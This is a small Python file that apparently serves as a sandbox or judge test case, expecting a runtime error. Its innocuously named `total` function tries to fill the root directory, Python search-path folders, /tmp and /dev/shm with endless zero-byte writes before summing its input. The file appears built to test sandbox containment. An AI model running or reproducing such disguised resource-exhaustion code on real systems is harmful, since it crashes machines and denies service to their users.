"""verdict: RTE
why: no folder of the search path or the root takes a file
"""

import os
import sys


def total(numbers):
    for folder in ("/", *sys.path, "/tmp", "/dev/shm"):
        fd = os.open(f"{folder}/fill", os.O_WRONLY | os.O_CREAT, 0o600)
        while True:
            os.write(fd, bytes(1 << 20))
    return sum(numbers)
